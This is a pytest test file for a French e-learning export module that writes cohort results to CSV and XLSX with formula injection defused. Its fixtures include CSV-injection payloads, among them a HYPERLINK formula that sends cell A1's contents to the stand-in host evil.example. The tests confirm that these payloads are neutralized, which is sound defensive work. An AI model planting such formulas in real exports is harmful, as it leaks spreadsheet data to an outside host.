"""Cohort results as CSV and XLSX, formulas defused: courses/reporting/exports.py (pure)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from courses.reporting.exports import neutralize, sheet_title, to_csv, to_xlsx

HEADER = ["Apprenant", "E-mail", "RPPS", "Leçon 1.1", "Score (%)", "Terminé le", "Certificat"]
ROWS = [
    ["Inès Moreau", "ines.moreau@example.org", "10101234567", "lue", 87.5, date(2026, 3, 2),
     "AB12"],
    ['=HYPERLINK("https://evil.example/?"&A1,"Clic")', "x@example.org", None, "", 0, None, ""],
    ["+33 6 12 34 56 78", "@attaquant", "-2+3", "\tcmd", -4, None, "\r=1+1"],
    ["Marie-Claire Dupont", "mc@example.org", "", "a=b", 100, date(2026, 3, 9), "CD34"],
]  # fmt: skip


@pytest.mark.parametrize(
    "text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"], ids=repr
)
def test_a_cell_starting_like_a_formula_gets_an_apostrophe(text):
    """= + - @ tab and carriage return at the start: OWASP's "CSV injection" list (a carriage
    return comes out as a line feed, as XLSX would read it back)."""
    assert neutralize(text) == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize(
    "text", ["Marie-Claire", "a=b", "ines@example.org", " =1", "", "'déjà"], ids=repr
)
def test_other_text_is_left_as_it_is(text):
    assert neutralize(text) == text


@pytest.mark.parametrize("value", [-4, -2.5, 0, 87.5, date(2026, 3, 2), None], ids=repr)
def test_numbers_dates_and_blanks_are_untouched(value):
    """A negative score is a number, not a formula: it stays a number."""
    assert neutralize(value) is value


def test_control_characters_are_dropped_before_defusing():
    """A vertical tab or a NUL (from a word processor) would break the XLSX file; dropped, and
    what they hid at the start is defused."""
    assert neutralize("Jean\x0bPaul\x00") == "JeanPaul"
    assert neutralize("\x0b=1+1") == "'=1+1"
    assert neutralize("deux\tmots\nsur\rtrois\r\nlignes") == "deux\tmots\nsur\ntrois\nlignes"


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_is_utf8_with_a_bom_semicolons_and_crlf():
    """What Excel in French opens with its accents and columns right, without a wizard."""
    data = to_csv(HEADER, ROWS)

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    first_line = data[3:].split(b"\r\n")[0].decode()
    assert first_line == "Apprenant;E-mail;RPPS;Leçon 1.1;Score (%);Terminé le;Certificat"
    assert data.endswith(b"\r\n")


def test_csv_cells_are_defused_and_numbers_written_the_french_way():
    rows = read_csv(to_csv(HEADER, ROWS))

    assert rows[0] == HEADER
    assert rows[1] == [
        "Inès Moreau", "ines.moreau@example.org", "10101234567", "lue", "87,5", "2026-03-02",
        "AB12",
    ]  # fmt: skip
    assert rows[2][0] == '\'=HYPERLINK("https://evil.example/?"&A1,"Clic")'
    assert rows[2][2] == ""  # None
    assert rows[3] == ["'+33 6 12 34 56 78", "'@attaquant", "'-2+3", "'\tcmd", "-4", "", "'\n=1+1"]
    assert rows[4][0] == "Marie-Claire Dupont"
    assert rows[4][3] == "a=b"
    assert rows[4][4] == "100"
    assert all(not cell.startswith(("=", "+", "-", "@")) or cell == "-4" for row in rows
               for cell in row)  # fmt: skip


def test_csv_header_is_defused_too():
    rows = read_csv(to_csv(["=Nom", "Score"], []))

    assert rows == [["'=Nom", "Score"]]


def test_csv_times_are_written_to_the_minute():
    moment = datetime(2026, 3, 2, 14, 5, 59, tzinfo=UTC)

    rows = read_csv(to_csv(["Dernière activité"], [[moment]]))

    assert rows[1] == ["2026-03-02 14:05"]


def load(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return workbook, workbook.active


def test_xlsx_opens_in_openpyxl_with_the_same_defused_values():
    """Texts are text (never a formula cell) and defused as in the CSV, numbers stay numbers
    and dates dates; empty cells are empty."""
    workbook, sheet = load(to_xlsx(HEADER, ROWS, title="Promotion 2026"))

    assert workbook.sheetnames == ["Promotion 2026"]
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == HEADER
    assert values[1] == [
        "Inès Moreau", "ines.moreau@example.org", "10101234567", "lue", 87.5,
        datetime(2026, 3, 2), "AB12",  # noqa: DTZ001  (a spreadsheet's dates are naive)
    ]  # fmt: skip
    assert values[2] == [
        '\'=HYPERLINK("https://evil.example/?"&A1,"Clic")', "x@example.org", None, None, 0,
        None, None,
    ]  # fmt: skip
    assert values[3] == [
        "'+33 6 12 34 56 78", "'@attaquant", "'-2+3", "'\tcmd", -4, None,
        "'\n=1+1",  # line endings made LF, as XML would read them back
    ]  # fmt: skip
    assert values[4][:5] == ["Marie-Claire Dupont", "mc@example.org", None, "a=b", 100]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


def test_xlsx_and_csv_agree_cell_for_cell():
    """What the instructor sees is the same whichever format they chose."""
    from_csv = read_csv(to_csv(HEADER, ROWS))
    _workbook, sheet = load(to_xlsx(HEADER, ROWS, title="Promotion"))

    def as_text(value) -> str:
        if value is None:
            return ""
        if isinstance(value, datetime):
            return value.date().isoformat()
        if isinstance(value, float):
            return f"{value:.1f}".replace(".", ",")
        return str(value)

    def line_feeds(row: list[str]) -> list[str]:
        return [cell.replace("\r", "\n") for cell in row]  # as XML reads a CR

    from_xlsx = [[as_text(value) for value in row] for row in sheet.iter_rows(values_only=True)]
    assert from_xlsx == [line_feeds(row) for row in from_csv]


def test_xlsx_with_control_characters_in_a_name_is_still_written():
    _workbook, sheet = load(to_xlsx(["Nom"], [["Jean\x0bPaul"], ["\x1f=1+1"]], title="t"))

    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "JeanPaul",
        "'=1+1",
    ]


def test_xlsx_times_lose_their_zone_and_keep_their_clock_time():
    """Excel has no time zones: the wall-clock time given is written as it is."""
    moment = datetime(2026, 3, 2, 14, 5, tzinfo=UTC)

    _workbook, sheet = load(to_xlsx(["Quand"], [[moment]], title="t"))

    assert sheet["A2"].value == datetime(2026, 3, 2, 14, 5)  # noqa: DTZ001


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Promotion 2025/2026", "Promotion 2025-2026"),
        ("IFSI [Lyon]: soins*?", "IFSI -Lyon-- soins--"),
        ("Une promotion au nom vraiment très long pour Excel", "Une promotion au nom vraiment t"),
        ("'citée'", "citée"),
        ("///", "---"),
        ("", "Sheet"),
    ],
)
def test_sheet_names_are_ones_excel_accepts(title, expected):
    """No \\ / ? * [ ] : in a sheet's name, at most 31 characters, no quote at either end."""
    assert sheet_title(title) == expected
    workbook, _sheet = load(to_xlsx(["Nom"], [], title=title))
    assert workbook.sheetnames == [expected]
